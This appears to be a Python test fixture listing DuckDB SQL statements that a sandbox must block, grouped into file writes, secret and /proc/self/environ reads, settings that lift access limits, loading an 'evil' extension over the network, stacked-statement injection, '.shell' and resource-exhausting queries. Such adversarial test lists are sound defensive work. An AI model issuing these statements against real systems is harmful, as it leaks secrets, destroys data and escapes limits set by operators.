"""Statements that a model, or somebody who can write into its prompt, might come up with.

`{data}` is the folder of the data with `t.parquet` and `u.parquet` (tables t and u), `{secret}` a file outside,
`{out}` a folder outside, `{scratch}` the worker's own, `{port}` a TCP server that nobody may reach.
"""

WRITING = """
COPY (SELECT 1) TO '{data}/t.parquet' (FORMAT parquet, USE_TMP_FILE false)
COPY (SELECT 1) TO '{data}/new.parquet' (FORMAT parquet)
COPY t TO '{out}/t.csv'
COPY (SELECT * FROM t) TO '{out}' (FORMAT parquet, PARTITION_BY (a))
COPY (SELECT 1) TO '{scratch}/x.parquet' (FORMAT parquet)
WITH x AS (COPY (SELECT 1 AS a) TO '{data}/t.parquet' (FORMAT parquet, USE_TMP_FILE false)) SELECT 1
WITH x AS (SELECT 1), y AS (COPY (SELECT 1) TO '{out}/y.csv') SELECT * FROM x
EXPLAIN ANALYZE COPY (SELECT 1) TO '{data}/t.parquet' (FORMAT parquet, USE_TMP_FILE false)
EXPLAIN ANALYZE WITH x AS (COPY (SELECT 1) TO '{data}/t.parquet' (FORMAT parquet, USE_TMP_FILE false)) SELECT 1
explain /* x */ analyze copy (select 1) to '{out}/e.csv'
EXPORT DATABASE '{out}/dump'
EXPORT DATABASE '{data}' (FORMAT parquet)
IMPORT DATABASE '{out}'
ATTACH '{data}/evil.db'
ATTACH '{data}/t.parquet' AS p
ATTACH ':memory:' AS m
ATTACH IF NOT EXISTS '{out}/a.db' AS a (READ_ONLY)
CREATE TABLE copied AS SELECT * FROM t
CREATE OR REPLACE VIEW t AS SELECT 1 AS a
CREATE MACRO f(x) AS x
CREATE TEMP TABLE z (a INTEGER)
INSERT INTO t VALUES (1)
WITH x AS (INSERT INTO t VALUES (1) RETURNING *) SELECT * FROM x
UPDATE t SET a = 0
DELETE FROM t
WITH x AS (DELETE FROM t RETURNING *) SELECT * FROM x
TRUNCATE t
DROP VIEW t
ALTER VIEW t RENAME TO v
MERGE INTO t USING u ON t.a = u.a WHEN MATCHED THEN DELETE
VACUUM
CHECKPOINT
FROM force_checkpoint()
CALL enable_logging(storage = 'file', storage_config = {'path': '{out}/log'})
FROM enable_logging('QueryLog')
PRAGMA enable_profiling = 'json'
SET profiling_output = '{out}/profile.json'
FROM enable_profiling()
"""

READING = """
FROM '{secret}'
SELECT * FROM read_text('{secret}')
SELECT content FROM read_blob('{secret}')
SELECT * FROM read_csv('{secret}', header = false)
SELECT * FROM read_csv_auto('{secret}', columns = {'line': 'VARCHAR'})
SELECT * FROM read_json('{secret}')
SELECT * FROM read_ndjson_objects('{secret}')
SELECT * FROM read_parquet('{secret}')
SELECT * FROM parquet_scan(['{data}/t.parquet', '{secret}'])
SELECT * FROM parquet_metadata('{secret}')
SELECT * FROM sniff_csv('{secret}')
SELECT * FROM read_duckdb('{secret}')
SELECT * FROM glob('/etc/*')
FROM glob('{out}/**')
FROM '{data}/../outside/*.csv'
SELECT (SELECT max(content) FROM read_text('{secret}')) AS s
SELECT * FROM t WHERE s IN (SELECT content FROM read_text('/etc/hostname'))
SELECT * FROM read_text('/proc/self/environ')
SELECT * FROM read_text('/proc/' || 1 || '/cmdline')
FROM query('SELECT * FROM read_text(''{secret}'')')
FROM query_table('{secret}')
SELECT * FROM json_execute_serialized_sql(json_serialize_sql('SELECT * FROM read_text(''{secret}'')'))
PRAGMA json_execute_serialized_sql('{{}}')
PREPARE p AS SELECT * FROM read_text('{secret}')
EXECUTE p
SELECT * FROM duckdb_secrets()
SELECT * FROM which_secret('s3://x', 's3')
CREATE SECRET s (TYPE s3, KEY_ID 'a', SECRET 'b')
SELECT * FROM python_variable
SELECT getenv('SECRET_OF_THE_PARENT')
SELECT * FROM arrow_scan(1, 2, 3)
SELECT * FROM pandas_scan(1)
FROM python_map_function(1)
FROM duckdb_logs()
FROM duckdb_external_file_cache()
"""

SETTINGS = """
SET enable_external_access = true
SET GLOBAL allowed_paths = ['/']
SET allowed_directories = ['/']
SET lock_configuration = false
RESET enable_external_access
SET python_enable_replacements = true
SET memory_limit = '1TB'
SET temp_directory = '{out}'
SET threads = 64
SET VARIABLE x = 1
PRAGMA memory_limit = '1TB'
PRAGMA disable_optimizer
PRAGMA database_list
CALL duckdb_settings()
USE memory
BEGIN TRANSACTION
ROLLBACK
INSTALL httpfs
"""

NETWORK = """
LOAD httpfs
FORCE INSTALL 'http://127.0.0.1:{port}/evil.duckdb_extension'
LOAD '{scratch}/evil.duckdb_extension'
FROM 'http://127.0.0.1:{port}/x.parquet'
SELECT * FROM read_csv('http://127.0.0.1:{port}/x.csv')
FROM 's3://bucket/x.parquet'
ATTACH 'http://127.0.0.1:{port}/x.db'
ATTACH 'host=127.0.0.1 port={port}' AS pg (TYPE postgres)
COPY t TO 'http://127.0.0.1:{port}/x.csv'
SELECT * FROM create_external_resource('x', 'y')
"""

DISGUISES = """
SELECT 1; DROP VIEW t
SELECT 1;; COPY t TO '{out}/d.csv'; --
; DELETE FROM t
/* SELECT 1 */ COPY t TO '{out}/c.csv'
-- SELECT 1
SELECT $1
SELECT * FROM t WHERE s = ?
(((COPY t TO '{out}/p.csv')))
SELECT * FROM (COPY t TO '{out}/q.csv')
DESCRIBE COPY t TO '{out}/r.csv'
SUMMARIZE DELETE FROM t
PIVOT t ON s USING count(*)
DO $$ BEGIN END $$
\\copy t to x
.shell ls
"""

GREEDY = """
SELECT list(range) FROM range(10000000000)
SELECT string_agg(repeat('x', 1000000), '') FROM range(1000000)
SELECT repeat('x', 4000000000)
SELECT len(list_sort(range(2000000000)))
WITH RECURSIVE r AS (SELECT 1 AS a UNION ALL SELECT a + 1 FROM r) SELECT count(*) FROM r
WITH RECURSIVE r AS (SELECT 'x' AS a UNION ALL SELECT a || a FROM r) SELECT max(length(a)) FROM r
SELECT count(*) FROM range(100000000) a, range(100000000) b
SELECT sum(range) FROM range(100000000000000)
SELECT sleep_ms(60000)
SELECT a.s FROM t a, t b, t c, t d, t e ORDER BY hash(a.s || b.s || c.s || d.s || e.s)
"""

GENERATED = (
    "SELECT " + "(" * 5_000 + "1" + ")" * 5_000,
    "SELECT 1" + " + 1" * 20_000,
    "SELECT * FROM " + "(SELECT * FROM " * 2_000 + "t" + ")" * 2_000,
    "SELECT '" + "x" * 200_000 + "'",
    "SELECT \0 1",
)


REACHING_OUT = (WRITING, READING, NETWORK)
"""Those that would write, read or connect somewhere if nothing held them."""

ALL = (*REACHING_OUT, SETTINGS, DISGUISES, GREEDY, *GENERATED)


def statements(groups: tuple[str, ...], **places: object) -> list[str]:
    """Each line of the groups, with the places filled in."""
    return [_fill(line, places) for group in groups for line in group.split("\n") if line]


def _fill(line: str, places: dict[str, object]) -> str:
    for name, value in places.items():
        line = line.replace("{" + name + "}", str(value))
    return line
